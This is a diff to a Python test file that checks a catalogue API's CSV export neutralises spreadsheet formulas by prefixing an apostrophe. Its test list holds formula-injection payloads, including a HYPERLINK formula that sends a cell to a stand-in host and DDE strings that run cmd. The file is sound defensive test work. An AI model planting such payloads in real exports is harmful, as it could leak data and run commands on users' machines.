@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from api.renderers import cell
+from api.renderers import cell, spreadsheet_safe
 from catalogue.models import Citation, Initiative, Requirement, Source, Technology
 from tests.factories import add_published
 
@@ -122,11 +122,15 @@ def test_csv_is_only_for_the_list(client, make_initiative):
 
 
 def json_rows_as_csv(client, query):
-    """The JSON list's rows for `query`, every page, each field as the CSV writes it."""
+    """The JSON list's rows for `query`, every page, each field as the CSV writes it (a cell a
+    spreadsheet would take for a formula prefixed with an apostrophe)."""
     rows, page = [], 1
     while page:
         data = client.get(LIST, {**query, "page_size": 100, "page": page}).json()
-        rows += [{name: cell(value) for name, value in record.items()} for record in data["results"]]
+        rows += [
+            {name: spreadsheet_safe(cell(value)) for name, value in record.items()}
+            for record in data["results"]
+        ]
         page = page + 1 if data["next"] else None
     return rows
 
@@ -142,6 +146,40 @@ def test_csv_rows_are_the_json_rows_with_related_records_by_slug(client, query):
 
     assert csv_rows  # the shipped catalogue matches every query
     assert csv_rows == json_rows_as_csv(client, query)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, make_initiative, formula):
+    make_initiative(slug="formula", title=formula, title_zh=formula, summary=formula, summary_zh="=1+1")
+
+    [row] = read_csv(client.get(LIST, {"format": "csv"}))
+    [record] = client.get(LIST).json()["results"]
+
+    # The CSV shows the text with a leading apostrophe, which spreadsheets take as "text"...
+    assert row["title"] == row["title_zh"] == row["summary"] == "'" + formula
+    assert row["summary_zh"] == "'=1+1"
+    # ...while the JSON keeps the partner's text as it was written.
+    assert record["title"] == record["title_zh"] == record["summary"] == formula
+    assert [row] == json_rows_as_csv(client, {})
+
+
+def test_csv_leaves_ordinary_text_alone(client, make_initiative):
+    make_initiative(slug="plain", title="Reading helper = fun", summary="'Quoted' 1+1 @home -ish")
+
+    [row] = read_csv(client.get(LIST, {"format": "csv"}))
+
+    assert row["title"] == "Reading helper = fun"
+    assert row["summary"] == "'Quoted' 1+1 @home -ish"
 
 
 def test_csv_lists_related_records_in_the_order_of_the_json(
